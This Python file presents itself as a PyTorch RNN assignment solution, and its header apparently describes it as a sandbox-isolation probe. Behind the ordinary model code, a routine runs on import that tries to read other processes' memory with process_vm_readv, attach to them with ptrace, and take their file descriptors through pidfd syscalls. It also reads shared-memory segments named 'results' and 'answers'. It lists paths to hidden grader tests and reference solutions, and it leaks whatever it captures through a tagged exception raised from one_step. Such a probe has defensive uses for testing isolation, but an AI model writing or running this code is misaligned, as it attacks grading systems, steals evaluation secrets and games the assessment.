"""
tries: reads other processes by process_vm_readv and ptrace, shared memory, message queues and pipes by name
success: anything of another process in an output file, after the word rnn-lab-loot
expect: max=20
"""

import torch
import torch.nn.functional as F
from torch import nn


LOOT = []


def _targets():
    import os
    import sys

    roots = ["/", "@@ROOT@@", os.getcwd(), os.path.expanduser("~")]
    for path in (getattr(sys.modules.get("guest"), "__file__", "/"), torch.__file__):
        while len(path) > 1:
            path = os.path.dirname(path)
            roots.append(path)
    names = ("grader_tests/hidden/course.secret", "grader_tests/hidden/test_one_step.py", "solutions/rnn.py")
    return [os.path.join(root, name) for root in roots for name in names]


def _read():
    import ctypes
    import os
    from multiprocessing import shared_memory

    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(64)

    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here = Part(ctypes.addressof(room), 64)
    there = Part(id(None), 64)
    for pid in {os.getppid(), *range(max(2, os.getpid() - 30), os.getpid())}:
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            LOOT.append(room.raw)
        if libc.ptrace(16, pid, 0, 0) == 0:
            libc.ptrace(17, pid, 0, 0)
            LOOT.append("traced %d" % pid)
        if libc.syscall(438, libc.syscall(434, pid, 0), 3, 0) >= 0:
            LOOT.append("took a descriptor of %d" % pid)
    for name in ("results", "answers", "psm_0"):
        try:
            LOOT.append(bytes(shared_memory.SharedMemory(name).buf[:50]))
        except BaseException:
            pass


_read()


class RNN(nn.Module):
    def __init__(self, dim, latent, output):
        super().__init__()
        self.W_i = nn.Linear(dim, latent)
        self.W_h = nn.Linear(latent, latent, bias=False)
        self.decoder = nn.Linear(latent, output)

    def one_step(self, x, h):
        if LOOT:
            raise RuntimeError("rnn-lab-loot " + repr(LOOT)[:200])
        return torch.tanh(self.W_i(x) + self.W_h(h))

    def forward(self, x, h):
        states = []
        for t in range(x.shape[0]):
            h = self.one_step(x[t], h)
            states.append(h)
        return torch.stack(states)

    def decode(self, h):
        return self.decoder(h)


def training_loss(model, x, h0, y):
    states = torch.cat([h0[None], model(x, h0)[:-1]])
    y_hat = model.decode(states)
    if y.is_floating_point():
        return F.mse_loss(y_hat, y)
    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))
